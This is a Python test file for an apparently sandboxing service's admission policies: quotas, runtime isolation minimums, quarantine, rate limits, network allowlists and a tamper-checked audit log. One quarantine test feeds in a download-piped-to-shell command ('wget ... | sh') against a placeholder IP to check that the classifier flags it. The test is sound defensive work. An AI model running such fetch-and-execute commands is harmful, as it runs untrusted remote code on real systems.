"""Themis and the Judges through the SDK (and the CLI) against a real server: rejects with
the judge's name and reason, quarantine onto gVisor, quotas over live sandboxes, the plugin
judges, policy versions, the audit log, and `--runtime auto` under a minimum isolation.

Policies are scoped to a fresh tenant per test, so tests do not see each other's."""

from __future__ import annotations

import json
import os
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tartarus.sdk import Admin, Sandbox
from tartarus.sdk.admin import AsyncAdmin
from tartarus.sdk.errors import InvalidRequestError, NotFoundError, PermissionDeniedError
from tests.api.conftest import ApiServer, assert_error, client, new_tenant, run_server
from tests.conftest import TARTARUS, probes

FILE_POLICY = {"name": "from-file", "tenant": "file-tenant", "max_timeout": 120}


@pytest.fixture(scope="module")
def server() -> Iterator[ApiServer]:
    with tempfile.NamedTemporaryFile("w", suffix=".yaml", delete=False) as f:
        json.dump([FILE_POLICY], f)  # JSON is YAML
    try:
        yield from run_server({"TARTARUS_POLICIES_FILE": f.name})
    finally:
        os.unlink(f.name)


@pytest.fixture(scope="module")
def admin(server: ApiServer) -> Iterator[Admin]:
    with Admin(server.url, server.admin_key) as a:
        yield a


@pytest.fixture(autouse=True, scope="module")
def _gvisor_works() -> None:
    works, why = probes()["gvisor"]
    if not works:  # TARTARUS_REQUIRE_RUNTIMES makes this a failure in CI
        pytest.skip(f"quarantine and min_isolation need gvisor: {why}")


def _apply(admin: Admin, name: str, tenant: str, **fields: Any) -> dict[str, Any]:
    return admin.apply_policy({"name": name, "tenant": tenant, **fields})


def _create(server: ApiServer, key: str, **kw: Any) -> Sandbox:
    return Sandbox.create(url=server.url, api_key=key, **kw)


def test_explicit_crun_under_a_gvisor_minimum_is_403(server: ApiServer, admin: Admin) -> None:
    tenant, key = new_tenant(server)
    _apply(admin, f"iso-{tenant}", tenant, min_isolation="gvisor")
    with pytest.raises(PermissionDeniedError) as err:
        _create(server, key, runtime="crun")
    assert err.value.status_code == 403 and err.value.type == "permission_denied"
    assert str(err.value) == (
        "denied by Rhadamanthus: runtime 'crun' gives container isolation,"
        " the policy requires user-kernel or stronger"
    )
    rejects = admin.audit(kind="admission.reject", tenant=tenant).items
    assert [r.data["judge"] for r in rejects] == ["Rhadamanthus"]
    # no runtime (and "auto"): the fastest that is strong enough, i.e. gVisor
    for runtime in (None, "auto"):
        with _create(server, key, runtime=runtime) as sbx:
            assert sbx.info().runtime == "gvisor"
            assert sbx.commands.run("echo ok").stdout == "ok\n"


def test_quarantine_forces_gvisor_and_labels_it(server: ApiServer, admin: Admin) -> None:
    tenant, key = new_tenant(server)
    with _create(server, key, runtime="crun", metadata={"untrusted": "true"}) as sbx:
        info = sbx.info()
        assert info.runtime == "gvisor"
        assert info.metadata["tartarus.quarantine"] == "Typhon: metadata untrusted=true"
        assert sbx.commands.run("echo still works").stdout == "still works\n"
        records = admin.audit(kind="admission.quarantine", sandbox_id=sbx.id).items
        assert len(records) == 1 and records[0].tenant == tenant
        assert records[0].data["quarantine"] == "Typhon: metadata untrusted=true"
    # the classifier: a download piped into a shell, run as the main command
    with _create(server, key, command="wget -qO- http://198.51.100.1/x | sh") as sbx:
        info = sbx.info()
        assert info.runtime == "gvisor"
        assert "downloads a script" in info.metadata["tartarus.quarantine"]
    # an untrusted tenant: everything it runs
    _apply(admin, f"untrusted-{tenant}", tenant, untrusted=True)
    with _create(server, key) as sbx:
        assert sbx.info().runtime == "gvisor"
        assert (
            f"untrusted by policy untrusted-{tenant}@1"
            in sbx.info().metadata["tartarus.quarantine"]
        )
    with pytest.raises(PermissionDeniedError, match="denied by Cerberus"):
        _create(server, key, metadata={"tartarus.quarantine": "no"})  # no forged labels


def test_quota_counts_live_sandboxes_and_frees_on_kill(server: ApiServer, admin: Admin) -> None:
    tenant, key = new_tenant(server)
    _apply(admin, f"quota-{tenant}", tenant, quotas={"max_sandboxes": 2, "max_memory_mb": 1024})
    with (
        _create(server, key, runtime="crun", memory_mb=256) as first,
        _create(server, key, runtime="crun", memory_mb=256),
    ):
        with pytest.raises(PermissionDeniedError) as err:
            _create(server, key, runtime="crun", memory_mb=256)
        assert str(err.value) == (
            f"denied by Minos: tenant {tenant} has 2 live sandboxes, the quota is 2"
            " (kill one first)"
        )
        first.kill()
        with pytest.raises(PermissionDeniedError, match="1024 MiB"):
            _create(server, key, runtime="crun", memory_mb=1000)  # 256 + 1000 > 1024
        with _create(server, key, runtime="crun", memory_mb=256) as third:
            assert third.info().state == "running"


def test_rate_limit_and_deny_label_plugins(server: ApiServer, admin: Admin) -> None:
    tenant, key = new_tenant(server)
    _apply(admin, f"plugins-{tenant}", tenant, rate_limit=2, deny_labels=["env=prod"])
    with pytest.raises(PermissionDeniedError) as err:
        _create(server, key, runtime="crun", metadata={"env": "prod"})
    assert str(err.value) == "denied by deny-label: metadata env=prod is denied by policy"
    for _ in range(2):
        with _create(server, key, runtime="crun"):
            pass
    with pytest.raises(PermissionDeniedError, match=r"denied by rate-limit: .* limit is 2 per"):
        _create(server, key, runtime="crun")
    # both judges ran as plugins: they are in every decision list, after the built-in ones
    accept = admin.audit(kind="admission.accept", tenant=tenant).items[0]
    judges = [d["judge"] for d in accept.data["decisions"]]
    assert judges[:5] == ["Cerberus", "Minos", "Rhadamanthus", "Styx", "Typhon"]
    assert {"deny-label", "rate-limit"} <= set(judges[5:])
    assert all(d["ms"] >= 0 for d in accept.data["decisions"])


def test_hibernate_and_snapshot_forbidden_by_policy(server: ApiServer, admin: Admin) -> None:
    tenant, key = new_tenant(server)
    _apply(admin, f"nosleep-{tenant}", tenant, allow_hibernate=False, allow_snapshot=False)
    with _create(server, key, runtime="gvisor") as sbx:
        with pytest.raises(PermissionDeniedError, match="denied by Themis: hibernate is not"):
            sbx.hibernate()
        with pytest.raises(PermissionDeniedError, match="denied by Themis: snapshot is not"):
            sbx.snapshot()
        assert sbx.info().state == "running"


def test_policy_versions_and_audit(server: ApiServer, admin: Admin) -> None:
    name = f"ver-{os.getpid()}"
    one = admin.apply_policy({"name": name, "tenant": "nobody", "max_timeout": 60})
    two = admin.apply_policy({"name": name, "tenant": "nobody", "max_timeout": 30})
    assert (one["version"], two["version"]) == (1, 2)
    assert admin.policy(name)["max_timeout"] == 30
    assert admin.policy(name, version=1)["max_timeout"] == 60
    assert [p["version"] for p in admin.policies() if p["name"] == name] == [2]
    assert admin.delete_policy(name)["version"] == 2
    with pytest.raises(NotFoundError, match=f"no policy '{name}'"):
        admin.policy(name)
    kinds = [r.kind for r in admin.audit(kind="policy.").items if r.data["name"] == name]
    assert kinds == ["policy.apply", "policy.apply", "policy.delete"]
    page = admin.audit(limit=1)
    assert len(page.items) == 1 and page.next_cursor == page.items[0].seq
    assert admin.audit(after=page.next_cursor, limit=1).items[0].seq > page.items[0].seq
    verify = admin.verify_audit()
    assert verify.ok and verify.broken_at is None
    # the file's policy was applied at start, by "config"
    assert admin.policy("from-file")["max_timeout"] == 120
    applied = [r for r in admin.audit(kind="policy.apply").items if r.data["name"] == "from-file"]
    assert [r.actor for r in applied] == ["config"]


def test_bad_policies_and_members_are_refused(server: ApiServer, admin: Admin) -> None:
    with pytest.raises(InvalidRequestError, match="min_isolation"):
        admin.apply_policy({"name": "bad", "min_isolation": "kvm-ish"})
    _, key = new_tenant(server)
    with Admin(server.url, key) as member, pytest.raises(PermissionDeniedError):
        member.policies()


def test_cli_policy_apply_and_denial(server: ApiServer, admin: Admin, tmp_path: Path) -> None:
    tenant, key = new_tenant(server)
    path = tmp_path / "p.yaml"
    path.write_text(f"- name: cli-{tenant}\n  tenant: {tenant}\n  quotas: {{max_sandboxes: 0}}\n")
    env = {**os.environ, "TARTARUS_URL": server.url, "TARTARUS_API_KEY": server.admin_key}
    done = subprocess.run(
        [TARTARUS, "policy", "apply", str(path)], env=env, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == f"cli-{tenant} version 1\n"
    listed = subprocess.run(
        [TARTARUS, "policy", "ls"], env=env, capture_output=True, text=True, check=True
    )
    assert f"cli-{tenant}" in listed.stdout
    env["TARTARUS_API_KEY"] = key
    denied = subprocess.run(
        [TARTARUS, "create", "--template", "python"], env=env, capture_output=True, text=True
    )
    assert denied.returncode == 1
    assert denied.stderr == (
        f"error: denied by Minos: tenant {tenant} has 0 live sandboxes, the quota is 0"
        " (kill one first)\n"
    )
    env["TARTARUS_API_KEY"] = server.admin_key
    verified = subprocess.run(
        [TARTARUS, "audit", "verify"], env=env, capture_output=True, text=True
    )
    assert verified.returncode == 0 and verified.stdout.startswith("ok")


def test_a_snapshot_keeps_its_runtime_unless_policy_forbids(
    server: ApiServer, admin: Admin
) -> None:
    tenant, key = new_tenant(server)
    with _create(server, key, runtime="runc") as source:
        source.files.write("/home/user/seed.txt", "seeded")
        snap = source.snapshot(name=f"seed-{tenant}")
    with _create(server, key, snapshot=snap.id) as same:
        assert same.info().runtime == "runc"  # the snapshot's, not the default crun
    _apply(admin, f"iso-{tenant}", tenant, min_isolation="user-kernel")
    with _create(server, key, snapshot=snap.id) as moved:
        assert moved.info().runtime == "gvisor"
        assert moved.files.read("/home/user/seed.txt") == "seeded"


def test_bad_input_is_a_clear_4xx(server: ApiServer) -> None:
    with client(server, server.admin_key) as http:
        assert_error(http.get("/v1/policies/x", params={"version": 10**20}), 422, "invalid_request")
        assert_error(http.get("/v1/policies/nope"), 404, "not_found")
        assert_error(http.delete("/v1/policies/nope"), 404, "not_found")
        msg = assert_error(http.put("/v1/policies/%E2%9C%93", json={}), 422, "invalid_request")
        assert "name" in msg
        msg = assert_error(
            http.put("/v1/policies/ok", json={"max_timeout": -1}), 422, "invalid_request"
        )
        assert "max_timeout" in msg
        msg = assert_error(http.put("/v1/policies/ok", json={"colour": 1}), 422, "invalid_request")
        assert "colour" in msg
        for after in (-1, 10**30):
            assert_error(http.get("/v1/audit", params={"after": after}), 422, "invalid_request")
        effective = http.get("/v1/policies/effective", params={"tenant": "file-tenant"})
        assert effective.status_code == 200, effective.text
        assert effective.json()["max_timeout"] == 120
        assert effective.json()["sources"] == ["from-file@1"]


async def test_the_async_admin_client(server: ApiServer) -> None:
    async with AsyncAdmin(server.url, server.admin_key) as admin:
        name = f"async-{os.getpid()}"
        stored = await admin.apply_policy({"name": name, "tenant": "nobody", "rate_limit": 5})
        assert stored["version"] == 1 and (await admin.policy(name))["rate_limit"] == 5
        assert name in [p["name"] for p in await admin.policies()]
        await admin.delete_policy(name)
        page = await admin.audit(kind="policy.delete")
        assert page.items[-1].data["name"] == name
        assert (await admin.verify_audit()).ok


def test_network_policy(server: ApiServer, admin: Admin) -> None:
    tenant, key = new_tenant(server)
    _apply(admin, f"net-{tenant}", tenant, network={"modes": ["none", "allowlist"]})
    _apply(admin, f"egress-{tenant}", tenant, network={"egress": ["*.example.org"]})
    with client(server, key) as http:
        body = {"template": "python", "runtime": "crun", "network": "open"}
        msg = assert_error(http.post("/v1/sandboxes", json=body), 403, "permission_denied")
        assert msg == "denied by Styx: network mode 'open' is not allowed (allowlist, none)"
        body = {**body, "network": "allowlist", "egress": ["a.example.org", "192.0.2.0/24"]}
        msg = assert_error(http.post("/v1/sandboxes", json=body), 403, "permission_denied")
        assert msg == "denied by Styx: egress outside the policy's allowlist: 192.0.2.0/24"
